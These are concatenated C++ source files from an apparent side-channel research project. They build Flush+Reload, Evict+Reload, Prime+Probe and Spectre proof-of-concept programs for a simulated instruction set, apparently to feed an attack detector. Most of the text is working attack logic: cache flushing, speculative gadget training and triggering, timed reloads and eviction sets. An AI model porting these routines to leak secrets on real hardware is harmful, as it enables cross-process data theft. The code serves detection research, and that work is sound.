  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(probe_base)));
  b.label("gadget_end");
  b.mark_relevant(false);
  b.ret();
}

void emit_argmax_from_one(ProgramBuilder& b, const Layout& lay) {
  b.mov(reg(Reg::RDI), imm(1));  // slot 0 is the training slot: skip it
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
}

void seed_spectre_data(ProgramBuilder& b, const PocConfig& config) {
  const Layout& lay = config.layout;
  b.data_word(lay.secret_addr, config.secret);
  b.data_word(lay.array1_size_addr, kArray1Entries);
  for (std::int64_t i = 0; i < kArray1Entries; ++i)
    b.data_word(lay.array1 + static_cast<std::uint64_t>(i) * 8, 0);
}

/// Flush phase over the shared probe array (S-FR recovery).
void emit_flush_phase(ProgramBuilder& b, const Layout& lay) {
  b.mov(reg(Reg::RDI), imm(0));
  b.lea(reg(Reg::RSI), mem_abs(static_cast<std::int64_t>(lay.shared_array)));
  b.label("flush_loop");
  b.mark_relevant(true);
  b.clflush(mem(Reg::RSI));
  b.add(reg(Reg::RSI), imm(Layout::kSlotStride));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("flush_loop");
  b.mark_relevant(false);
  b.mfence();
}

/// Reload phase over slots 1..15 with histogram voting (S-FR recovery).
void emit_reload_phase(ProgramBuilder& b, const Layout& lay,
                       const PocConfig& config) {
  b.mov(reg(Reg::RDI), imm(1));
  b.label("reload_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
  b.jge("reload_next");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("reload_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("reload_loop");
  b.mark_relevant(false);
}

isa::Program spectre_fr_common(const char* name, const PocConfig& config,
                               bool masked, bool interleaved_training) {
  const Layout& lay = config.layout;
  ProgramBuilder b(name);
  seed_spectre_data(b, config);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  emit_flush_phase(b, lay);

  if (interleaved_training) {
    // Mix flushes of the size variable into the training sequence.
    b.mov(reg(Reg::RDX), imm(config.trainings));
    b.label("train_loop");
    b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
    b.mov(reg(Reg::RDI), imm(0));
    b.call("gadget");
    b.dec(reg(Reg::RDX));
    b.jne("train_loop");
  } else {
    b.mov(reg(Reg::RDX), imm(config.trainings));
    b.label("train_loop");
    b.mov(reg(Reg::RDI), imm(0));
    b.call("gadget");
    b.dec(reg(Reg::RDX));
    b.jne("train_loop");
    b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
    b.mfence();
  }

  // Trigger: architecturally out-of-bounds, transiently reaches the secret.
  b.mov(reg(Reg::RDI), imm(malicious_index(lay)));
  b.call("gadget");
  b.lfence();

  emit_reload_phase(b, lay, config);

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_argmax_from_one(b, lay);
  b.hlt();
  emit_gadget(b, lay, lay.shared_array, masked);
  return b.build();
}

}  // namespace

isa::Program spectre_fr_ideal(const PocConfig& config) {
  return spectre_fr_common("Spectre-FR-Ideal", config, /*masked=*/false,
                           /*interleaved_training=*/false);
}

isa::Program spectre_fr_good(const PocConfig& config) {
  return spectre_fr_common("Spectre-FR-Good", config, /*masked=*/true,
                           /*interleaved_training=*/false);
}

isa::Program spectre_fr_interleaved(const PocConfig& config) {
  return spectre_fr_common("Spectre-FR-Interleaved", config,
                           /*masked=*/false, /*interleaved_training=*/true);
}

isa::Program spectre_pp_trippel(const PocConfig& config) {
  const Layout& lay = config.layout;
  ProgramBuilder b("Spectre-PP-Trippel");
  seed_spectre_data(b, config);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Prime all monitored sets.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("prime_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));
  // Masked way index: wrong-path (transient) extra iterations wrap onto
  // way 0 instead of evicting the freshly primed set.
  b.label("prime_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));  // * kSetAlias
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("prime_way_loop");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("prime_slot_loop");
  b.mfence();

  // ---- Calibrate: time one walk of the freshly primed slot-0 set;
  // threshold = baseline + margin is junk-overhead invariant.
  b.lea(reg(Reg::RSI),
        mem_abs(static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("calib_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("calib_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(reg(Reg::RBP), reg(Reg::R9));
  b.add(reg(Reg::RBP), imm(100));

  // ---- Train, then trigger the transient secret-dependent access. The
  // bounds variable is flushed before the trigger, as real Spectre PoCs do
  // to widen the speculation window.
  b.mov(reg(Reg::RDX), imm(config.trainings));
  b.label("train_loop");
  b.mov(reg(Reg::RDI), imm(0));
  b.call("gadget");
  b.dec(reg(Reg::RDX));
  b.jne("train_loop");
  b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
  b.mfence();
  b.mov(reg(Reg::RDI), imm(malicious_index(lay)));
  b.call("gadget");
  b.lfence();

  // ---- Probe sets 1..15 against the calibrated baseline.
  b.mov(reg(Reg::RDI), imm(1));
  b.label("probe_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("probe_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("probe_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), reg(Reg::RBP));
  b.jle("probe_next");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("probe_next");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("probe_slot_loop");

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_argmax_from_one(b, lay);
  b.hlt();
  emit_gadget(b, lay, lay.victim_array, /*masked=*/false);
  return b.build();
}

}  // namespace scag::attacks
