// Cooperative multi-spy Prime+Probe. Spy k of n primes and probes only the
// LLC sets of its contiguous slot share [k*16/n, (k+1)*16/n): each spy's
// trace contains a fraction of a full Prime+Probe sweep, the merged trace
// (trace/merge.h) the whole attack. Calibration walks the spy's own first
// slot, so every spy stays self-contained.
#include "attacks/registry.h"

#include <string>

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

// Defined in multi_spy_flush_reload.cpp (shared spy-split validation).
void validate_spy_split(int spy_index, int num_spies);

namespace {

constexpr int kWays = 16;  // default LLC associativity
constexpr int kProbeMargin = 100;

/// Victim for the PP family: touches its private array (congruent LLC sets
/// with the attacker's prime region) at the slot its secret selects.
void emit_pp_victim(ProgramBuilder& b, const Layout& lay) {
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.victim_array)));
  b.mark_relevant(false);
  b.ret();
}

void emit_share_argmax(ProgramBuilder& b, const Layout& lay, int lo, int hi) {
  b.mov(reg(Reg::RDI), imm(lo));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(lo));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
}

}  // namespace

isa::Program multi_spy_prime_probe(const PocConfig& config, int spy_index,
                                   int num_spies) {
  validate_spy_split(spy_index, num_spies);
  const int lo = spy_index * Layout::kNumSlots / num_spies;
  const int hi = (spy_index + 1) * Layout::kNumSlots / num_spies;
  const Layout& lay = config.layout;
  ProgramBuilder b("MultiSpy-PP/spy" + std::to_string(spy_index) + "of" +
                   std::to_string(num_spies));
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Prime phase: fill only this spy's monitored sets.
  b.mov(reg(Reg::RDI), imm(lo));  // slot
  b.label("prime_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));  // way
  // Masked way index: a wrong-path extra iteration wraps onto way 0
  // instead of self-evicting the freshly primed set (see pp_iaik).
  b.label("prime_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));  // * kSetAlias
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("prime_way_loop");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("prime_slot_loop");
  b.mfence();

  // ---- Calibrate: time one walk of the spy's own first primed set.
  b.lea(reg(Reg::RSI),
        mem_abs(static_cast<std::int64_t>(lay.attacker_array) +
                static_cast<std::int64_t>(lo) * Layout::kSlotStride));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("calib_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("calib_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(reg(Reg::RBP), reg(Reg::R9));
  b.add(reg(Reg::RBP), imm(kProbeMargin));

  b.call("victim");

  // ---- Probe phase: time a full walk of each own set.
  b.mov(reg(Reg::RDI), imm(lo));
  b.label("probe_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("probe_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("probe_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), reg(Reg::RBP));
  b.jle("probe_next");
  // Slow walk: the victim displaced a way -> histogram[slot]++.
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("probe_next");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("probe_slot_loop");

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_share_argmax(b, lay, lo, hi);
  b.hlt();
  emit_pp_victim(b, lay);
  return b.build();
}

}  // namespace scag::attacks
