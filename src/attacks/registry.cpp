#include "attacks/registry.h"

#include <stdexcept>

namespace scag::attacks {

const std::vector<PocSpec>& all_pocs() {
  static const std::vector<PocSpec> pocs = {
      {"FR-IAIK", core::Family::kFlushReload, fr_iaik},
      {"FR-Mastik", core::Family::kFlushReload, fr_mastik},
      {"FR-Nepoche", core::Family::kFlushReload, fr_nepoche},
      {"FF-IAIK", core::Family::kFlushReload, ff_iaik},
      {"ER-IAIK", core::Family::kFlushReload, er_iaik},
      {"PP-IAIK", core::Family::kPrimeProbe, pp_iaik},
      {"PP-Jzhang", core::Family::kPrimeProbe, pp_jzhang},
      {"Spectre-FR-Ideal", core::Family::kSpectreFR, spectre_fr_ideal},
      {"Spectre-FR-Good", core::Family::kSpectreFR, spectre_fr_good},
      {"Spectre-FR-Interleaved", core::Family::kSpectreFR,
       spectre_fr_interleaved},
      {"Spectre-PP-Trippel", core::Family::kSpectrePP, spectre_pp_trippel},
  };
  return pocs;
}

std::vector<PocSpec> pocs_of_family(core::Family family) {
  std::vector<PocSpec> out;
  for (const PocSpec& p : all_pocs())
    if (p.family == family) out.push_back(p);
  return out;
}

const PocSpec& poc_by_name(const std::string& name) {
  for (const PocSpec& p : all_pocs())
    if (p.name == name) return p;
  throw std::out_of_range("unknown PoC: " + name);
}

const std::vector<MultiSpySpec>& all_multi_spy_specs() {
  static const std::vector<MultiSpySpec> specs = {
      {"MultiSpy-FR", core::Family::kFlushReload, multi_spy_flush_reload},
      {"MultiSpy-PP", core::Family::kPrimeProbe, multi_spy_prime_probe},
  };
  return specs;
}

const MultiSpySpec& multi_spy_by_name(const std::string& name) {
  for (const MultiSpySpec& s : all_multi_spy_specs())
    if (s.name == name) return s;
  throw std::out_of_range("unknown multi-spy attack: " + name);
}

}  // namespace scag::attacks
