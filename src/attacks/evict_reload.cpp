// Evict+Reload (Gruss et al., USENIX Sec'15): like Flush+Reload but evicts
// the shared line by loading an eviction set (attacker-owned lines mapping
// to the same LLC set) instead of executing clflush — usable where clflush
// is unavailable. The inclusive LLC back-invalidates L1 on eviction.
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

isa::Program er_iaik(const PocConfig& config) {
  const Layout& lay = config.layout;
  // 16 ways in the default LLC: load 16 same-set lines to evict a set.
  constexpr int kWays = 16;
  ProgramBuilder b("ER-IAIK");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Evict phase: for each slot, walk its eviction set.
  b.mov(reg(Reg::RDI), imm(0));  // slot
  b.label("evict_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  // rsi = attacker_array + slot*stride (congruent to the shared slot).
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));  // way
  b.label("evict_way_loop");
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.add(reg(Reg::RSI), imm(Layout::kSetAlias));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("evict_way_loop");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("evict_slot_loop");
  b.mfence();

  b.call("victim");

  // ---- Reload phase. Stylistically unlike Flush+Reload's: walks the
  // slots backwards with shift-based addressing and an unsigned "below
  // threshold" hit test (Evict+Reload codebases time differently).
  b.mov(reg(Reg::R12), imm(Layout::kNumSlots - 1));
  b.label("reload_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::R13), reg(Reg::R12));
  b.shl(reg(Reg::R13), imm(11));  // * kSlotStride
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX),
        mem(Reg::R13, static_cast<std::int64_t>(lay.shared_array)));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
  b.jae("reload_next");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::R12, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.add(reg(Reg::RAX), imm(1));
  b.mov(mem_idx(Reg::R15, Reg::R12, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("reload_next");
  b.dec(reg(Reg::R12));
  b.cmp(reg(Reg::R12), imm(0));
  b.jge("reload_loop");
  b.mark_relevant(false);

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  // ---- Argmax histogram -> recovered secret.
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
  b.hlt();

  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.mark_relevant(false);
  b.ret();
  return b.build();
}

}  // namespace scag::attacks
