// Three structurally distinct Flush+Reload implementations (Table II lists
// FR-IAIK, FR-Mastik, FR-Nepoche). Each genuinely recovers the victim's
// secret nibble through reload timing and writes it to
// layout.recovered_addr; tests assert that.
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

/// Emits the shared victim: loads its secret and touches the selected slot
/// of the shared array. Marked attack-relevant (it is the other half of
/// the cache-set overlap the detector looks for).
void emit_victim(ProgramBuilder& b, const Layout& lay) {
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.mark_relevant(false);
  b.ret();
}

/// Emits argmax over the histogram and stores the winner to recovered_addr.
void emit_argmax(ProgramBuilder& b, const Layout& lay) {
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
}

}  // namespace

isa::Program fr_iaik(const PocConfig& config) {
  const Layout& lay = config.layout;
  ProgramBuilder b("FR-IAIK");
  b.data_word(lay.secret_addr, config.secret);

  // R15 stays 0; it serves as a zero base register for indexed addressing.
  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Flush phase: clflush every slot of the shared array.
  b.mov(reg(Reg::RDI), imm(0));
  b.lea(reg(Reg::RSI), mem_abs(static_cast<std::int64_t>(lay.shared_array)));
  b.label("flush_loop");
  b.mark_relevant(true);
  b.clflush(mem(Reg::RSI));
  b.add(reg(Reg::RSI), imm(Layout::kSlotStride));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("flush_loop");
  b.mark_relevant(false);
  b.mfence();

  // ---- Victim runs (in reality: the attacker waits for it).
  b.call("victim");

  // ---- Reload phase: time a load of every slot.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("reload_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
  b.jge("reload_next");
  // Cache hit: the victim touched this slot -> histogram[slot]++.
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("reload_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("reload_loop");
  b.mark_relevant(false);

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_argmax(b, lay);
  b.hlt();
  emit_victim(b, lay);
  return b.build();
}

isa::Program fr_mastik(const PocConfig& config) {
  const Layout& lay = config.layout;
  const std::int64_t times = static_cast<std::int64_t>(lay.histogram) + 0x400;
  ProgramBuilder b("FR-Mastik");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  b.mov(reg(Reg::RDI), imm(0));
  // ---- Fused flush / victim / reload per slot; raw latencies recorded.
  b.label("slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.shl(reg(Reg::RAX), imm(11));  // * kSlotStride (2048)
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.clflush(mem(Reg::RSI));
  b.mfence();
  b.mark_relevant(false);
  b.call("victim");
  b.mark_relevant(true);
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, times), reg(Reg::R9));
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("slot_loop");

  // ---- Post-process: the minimum latency marks the victim's slot.
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(1 << 30));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("scan_loop");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, times));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jge("scan_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("scan_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("scan_loop");
  // histogram[winner]++
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDX, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDX, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_argmax(b, lay);
  b.hlt();
  emit_victim(b, lay);
  return b.build();
}

isa::Program fr_nepoche(const PocConfig& config) {
  const Layout& lay = config.layout;
  ProgramBuilder b("FR-Nepoche");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Flush phase, unrolled by two.
  b.mov(reg(Reg::RDI), imm(0));
  b.lea(reg(Reg::RSI), mem_abs(static_cast<std::int64_t>(lay.shared_array)));
  b.label("flush_loop");
  b.mark_relevant(true);
  b.clflush(mem(Reg::RSI));
  b.clflush(mem(Reg::RSI, Layout::kSlotStride));
  b.add(reg(Reg::RSI), imm(2 * Layout::kSlotStride));
  b.add(reg(Reg::RDI), imm(2));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("flush_loop");
  b.mark_relevant(false);
  b.lfence();

  b.call("victim");

  // ---- Reload phase via the measurement subroutine.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("reload_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.call("measure");
  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
  b.jge("reload_next");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("reload_next");
